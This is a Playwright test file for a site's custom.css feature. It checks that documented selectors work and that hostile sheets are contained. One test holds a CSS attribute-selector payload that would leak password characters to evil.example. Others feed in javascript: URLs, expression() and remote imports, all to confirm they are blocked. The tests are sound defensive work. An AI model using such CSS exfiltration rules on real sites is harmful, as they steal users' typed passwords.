import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { complete, expect, openPage, test } from '../fixtures.ts';
import { askForPage, openWithWorker, test as behindGateway } from '../gateway.ts';
import { deskBar, openDesk, withDesk } from '../deskSite.ts';

/** The names that docs/custom-css.md promises: first column of its table. */
const NAMES = [...readFileSync('docs/custom-css.md', 'utf8').matchAll(/^\| (`[^|]+`) +\|/gm)].flatMap(([, cell = '']) =>
  [...cell.matchAll(/`([^`]+)`/g)].map(([, name = '']) => name),
);
const SELECTORS = NAMES.filter((name) => !name.startsWith('--'));
const TOKENS = NAMES.filter((name) => name.startsWith('--'));

const HIDES_ALL = 'html, body, body * { display: none !important; ';
const name = (page: Page) => page.getByRole('heading', { level: 1 });

/** Whether a visible element of these has the rule of `custom.css`, by a property that is not inherited. */
const isReached = (all: Element[]) =>
  all.some((one) => one.checkVisibility() && getComputedStyle(one).scrollMarginTop === '77px');

test('each documented name is in the page and reached by custom.css, which wins over sheets that load later', async ({
  page,
  serve,
}) => {
  expect([SELECTORS.length, TOKENS.length]).toEqual([16, 8]);
  const rules = SELECTORS.map((selector) => `${selector} { scroll-margin: 77px }`);
  const [month, day] = new Intl.DateTimeFormat('en', { timeZone: 'Asia/Shanghai', month: 'numeric', day: 'numeric' })
    .format()
    .split('/');
  const site = await serve(
    await withDesk({
      site: { notice: { text: '维护' }, extraMemorialDays: { [`${month}.${day}`]: '今天' } },
      files: { 'custom.css': [...rules, '.settings-columns { padding-block-end: 77px }'].join('\n') },
    }),
  );
  const missing = new Set(SELECTORS);
  const look = async () => {
    for (const selector of missing) {
      if (await page.locator(selector).evaluateAll(isReached)) missing.delete(selector);
    }
  };
  await openPage(page, site.url);
  await complete(page);
  await look();
  const opened = ['capsule', 'directory', 'settings'].map((part) => `[data-part='${part}']`);
  const light = 'html[data-light]';
  expect([...missing].toSorted()).toEqual([...opened, light]);
  await page.getByRole('button', { name: 'Hello, world!' }).click();
  await page.locator('[data-part="capsule"]').waitFor();
  await look();
  await page.getByRole('button', { name: '设置', exact: true }).click();
  await expect(page.locator('[data-part="settings"]')).toHaveCSS('padding-bottom', '77px');
  await look();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: '全部' }).click();
  await page.locator('[data-part="directory"]').waitFor();
  await look();
  // The shipped pictures are dark; src/features/wallpaper/tone.test.tsx shows what sets the attribute.
  await page.locator('html').evaluate((root) => root.setAttribute('data-light', ''));
  await look();
  expect([...missing]).toEqual([]);
  for (const token of TOKENS) {
    const value = await page.evaluate((one) => getComputedStyle(document.documentElement).getPropertyValue(one), token);
    expect(value, token).not.toBe('');
  }
});

test('a sheet of other sites: styles and fonts are refused, nothing runs, and the rest applies', async ({
  page,
  serve,
  problems,
  standIns,
}) => {
  problems.expect(/Content Security Policy/);
  problems.expect(/^failed: GET (https:\/\/(styles|fonts)\.example|javascript:)/);
  const site = await serve({
    files: {
      'custom.css': [
        '@import "https://styles.example/all.css";',
        '@font-face { font-family: Far; src: url(https://fonts.example/far.woff2) }',
        'h1 { font-family: Far; background: url("javascript:document.title=1"); width: expression(document.title=1) }',
        'body { outline: 3px solid rgb(1, 2, 3) }',
        'h1 { color: rgb(4, 5, 6',
      ].join('\n'),
    },
  });
  await openPage(page, site.url);
  await complete(page);
  await expect(page.locator('body')).toHaveCSS('outline-color', 'rgb(1, 2, 3)');
  await expect(name(page)).toHaveCSS('color', 'rgb(4, 5, 6)');
  await expect(page).toHaveTitle('Porchlight');
  expect(
    await page.evaluate(() =>
      [...document.fonts].some(({ family, status }) => family === 'Far' && status === 'loaded'),
    ),
  ).toBe(false);
  expect(standIns.unexpected).toEqual([]);
});

test('a sheet applies to no password dialog and no desk, also if the desk is opened directly, and again afterwards', async ({
  page,
  serve,
  problems,
  standIns,
}) => {
  problems.expect(/401/);
  problems.expect(/^twice: GET \S+getLinks/);
  const reads = ['t', 'u', 'p', 'e'].map(
    (letter) => `input[value$='${letter}'] { background: url(https://evil.example/${letter}) }`,
  );
  const site = await serve(
    await withDesk({
      site: { lockedGroups: ['个人'] },
      files: {
        'custom.css': [
          'body { outline: 3px solid rgb(1, 2, 3) }',
          '.modal-sheet input { opacity: 0.5 }',
          ...reads,
        ].join('\n'),
      },
    }),
  );
  const applies = (yes: boolean) =>
    expect(page.locator('body')).toHaveCSS('outline-color', yes ? 'rgb(1, 2, 3)' : /^(?!rgb\(1, 2, 3\))/);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await openPage(page, site.url);
  await complete(page);
  await applies(true);
  await page.goto(`${site.url}/?owner`);
  const dialog = page.getByRole('dialog', { name: '管理' });
  await dialog.getByLabel('密码').fill('tupe');
  await applies(false);
  // By the boot script, before it could apply once.
  await expect(page.locator('#own-sheet')).toHaveAttribute('media', 'not all');
  await page.getByRole('button', { name: '关闭' }).click();
  await applies(true);
  await openDesk(page, site.url);
  await applies(false);
  await page.getByRole('button', { name: '退出管理' }).click();
  await applies(true);
  // Without a second request.
  expect(requests.filter((url) => url.includes('custom.css'))).toHaveLength(3);
  expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
  expect(standIns.unexpected).toEqual([]);
});

behindGateway(
  'a sheet that hides everything is left out by ?plain and by the desk, and without a network',
  async ({ page, gateway, replaceSite }) => {
    const site = await replaceSite(await withDesk({ files: { 'custom.css': HIDES_ALL } }));
    await openWithWorker(page, gateway.url);
    await expect(name(page)).toBeHidden();
    await openPage(page, `${gateway.url}/?plain`);
    await expect(name(page)).toBeVisible();
    await openDesk(page, gateway.url);
    await expect(deskBar(page)).toBeVisible();

    gateway.site = undefined;
    await openPage(page, gateway.url);
    await expect(name(page)).toBeHidden();
    await openPage(page, `${gateway.url}/?plain`);
    await expect(name(page)).toBeVisible();

    gateway.site = site;
    writeFileSync(join(site.configDir, 'public/custom.css'), 'h1 { outline: 3px solid rgb(1, 2, 3) }');
    await expect.poll(() => askForPage(page)).toBe(true);
    await openPage(page, gateway.url);
    await expect(name(page)).toHaveCSS('outline-color', 'rgb(1, 2, 3)');
    gateway.site = undefined;
    await openPage(page, gateway.url);
    await expect(name(page)).toHaveCSS('outline-color', 'rgb(1, 2, 3)');
  },
);

test('a sheet that is gone or never arrives does not keep the page from opening', async ({ page, serve, problems }) => {
  problems.expect(/custom\.css/);
  const site = await serve({ files: { 'custom.css': 'h1 { color: red }' } });
  await page.route('**/custom.css?*', (route) => route.fulfill({ status: 404, body: '' }));
  await openPage(page, site.url);
  await expect(name(page)).toBeVisible();
});
